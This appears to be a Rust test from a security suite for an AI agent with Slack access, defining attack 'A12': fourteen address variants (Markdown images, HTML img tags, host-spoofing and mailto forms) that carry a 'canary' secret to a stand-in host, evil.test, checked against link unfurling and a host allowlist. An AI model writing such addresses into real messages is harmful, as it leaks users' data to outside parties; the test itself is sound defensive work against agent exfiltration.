//! A12: data leaves by an address that somebody, or Slack itself, opens.

use serde_json::json;

use super::Attack;
use super::house::{House, call, words};

/// Addresses with a secret in them, as an agent may write them.
const ADDRESSES: &[(&str, &str)] = &[
    ("a plain address", "https://evil.test/?d=canary"),
    ("a link with a label", "<https://evil.test/?d=canary|the invoice>"),
    ("a link in Markdown", "[the invoice](https://evil.test/?d=canary)"),
    ("a picture in Markdown", "![logo](https://evil.test/canary.png)"),
    ("a picture in HTML", "<img src=\"https://evil.test/canary.png\">"),
    ("an account before the host", "https://docs.acme.test@evil.test/canary"),
    ("a trusted host as a prefix", "https://docs.acme.test.evil.test/canary"),
    ("a backslash before the host", "https://evil.test\\@docs.acme.test/canary"),
    ("no scheme", "www.evil.test/canary"),
    ("capital letters", "HTTPS://EVIL.TEST/canary"),
    ("another scheme", "slack://channel?team=evil&id=canary"),
    ("a mail address", "<mailto:evil@evil.test?body=canary|write to us>"),
    ("plain HTTP to a trusted host's name", "http://docs.acme.test.evil.test/canary"),
    ("an address in a code span", "`https://evil.test/canary`"),
];

pub fn exfiltration() -> Attack {
    Attack {
        id: "A12",
        what: "data leaves by a link that Slack or a person opens",
        rule: "no message can be posted with previews; addresses in agents' words are text unless their host is allowed",
        variants: ADDRESSES.iter().map(|address| address.0).collect(),
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a12_no_address_of_an_agent_is_opened() {
    let house = House::with(&[], |config| config.links.allowed_hosts = vec!["docs.acme.test".to_owned()]).await;
    let answers = ADDRESSES.iter().map(|(_, address)| words(&format!("See {address} for more.")));
    let posts = ADDRESSES.iter().map(|(_, a)| call("slack__post", json!({ "channel": "#general", "text": a })));
    let tells = ADDRESSES.iter().map(|(_, a)| call("slack__dm", json!({ "person": "@dana", "text": a })));
    house.order_questions(answers.chain(posts).chain(tells).collect()).await;
    let calls = house.office.sandbox.calls();
    let posted: Vec<_> = calls.iter().filter(|call| call.method == "chat.postMessage").collect();
    assert!(posted.len() > 3 * ADDRESSES.len(), "{}", posted.len());
    for post in &posted {
        assert_eq!(post.args["unfurl_links"], "false", "{}", post.args);
        assert_eq!(post.args["unfurl_media"], "false", "{}", post.args);
    }
    let active = house.active();
    for (name, _) in ADDRESSES {
        let found: Vec<&String> = active.iter().filter(|one| one.to_lowercase().contains("evil")).collect();
        assert!(found.is_empty(), "{found:?}");
        println!("{name}: is text");
    }
    assert!(house.left().contains("evil.test/?d=canary"), "it was posted, as text");
    house.order_questions(vec![words("See https://docs.acme.test/receipts for more.")]).await;
    assert!(house.active().iter().any(|one| one.contains("https://docs.acme.test/receipts")), "the control is a link");
    house.end().await;
}
